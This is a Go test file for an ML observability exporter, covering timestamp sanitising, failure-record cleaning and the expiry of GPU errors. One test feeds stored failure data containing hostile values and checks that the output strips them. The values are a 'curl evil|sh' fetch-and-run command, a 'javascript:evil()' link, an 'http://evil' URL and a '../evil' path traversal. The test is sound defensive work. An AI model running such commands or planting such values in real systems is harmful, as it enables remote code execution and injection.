package model_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/api"
	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/input"
	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/series"
)

// Times that no clock shows are replaced, in the storage and in repro_gen's
// directory: a State is always JSON.
func TestTimesThatNoClockShows(t *testing.T) {
	for _, text := range []string{"0000-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "1970-01-01T00:00:00Z"} {
		w := newWorld(input.Settings{})
		recent := w.now.Format(time.RFC3339)
		times := `"service":"trainer","first_seen":"` + text + `","last_seen":"` + recent + `"`
		require.NoError(t, w.Import([]byte(`{"version":1,
			"runs":[{"id":"r","checkpoint":"`+text+`",`+times+`}],
			"failures":[{"key":"k",`+times+`}]}`)))
		never, err := time.Parse(time.RFC3339, text)
		require.NoError(t, err)
		w.SetFailures([]api.Failure{{Key: "found", FirstSeen: &never, LastSeen: &never}})
		w.span(func(in *input.Span) { in.Asks, in.Fact.Requested, in.Source.Version = true, "m", "1" })
		state := w.state()
		data, err := json.Marshal(state)
		require.NoError(t, err)
		require.Len(t, state.Runs, 1)
		require.Len(t, state.Failures, 2)
		assert.NotContains(t, string(data), text[:4]+"-")
		_, err = w.Export()
		require.NoError(t, err)
	}
}

// Who can write the storage cannot have the page show a command or an address, nor
// more of a message than the configuration says.
func TestSavedFailuresHaveNoCommands(t *testing.T) {
	w := newWorld(input.Settings{JaegerURL: "http://jaeger"})
	require.NoError(t, w.Import([]byte(`{"version":1,"failures":[{"key":"k","class":"E","message":"`+strings.Repeat("m", 400)+`","count":3,
		"command":"curl evil|sh","replays":true,"requires":["evil"],"fill":["evil"],"report":"javascript:evil()","trace_url":"http://evil",
		"trace_id":"../evil","last_seen":"`+w.now.Format(time.RFC3339)+`"}]}`)))
	rows := w.state().Failures
	require.Len(t, rows, 1)
	assert.Equal(t, []any{"E", int64(3), strings.Repeat("m", 200)}, []any{rows[0].Class, rows[0].Count, rows[0].Message})
	data, err := json.Marshal(rows)
	require.NoError(t, err)
	assert.NotContains(t, string(data), "evil")
}

// An error of a GPU that never comes makes room after an hour.
func TestErrorsOfUnknownGPUsEnd(t *testing.T) {
	w := newWorld(input.Settings{MaxGPUs: 1})
	send := func(gpu string) {
		w.ApplyEvents([]input.Event{{Host: "h", GPU: gpu, XID: &api.XID{Time: w.now, Code: "79"}}})
	}
	send("other")
	w.now = w.now.Add(2 * time.Hour)
	w.point(series.Steps, "r", 1)
	send("g")
	w.ApplyPoints([]series.Point{{Series: series.GPUPower, Labels: series.Labels{Host: "h", GPU: "g"}, Update: series.Update{Value: 70}}})
	require.Len(t, w.state().GPUs, 1)
	assert.NotNil(t, w.State().GPUs[0].XID)
}
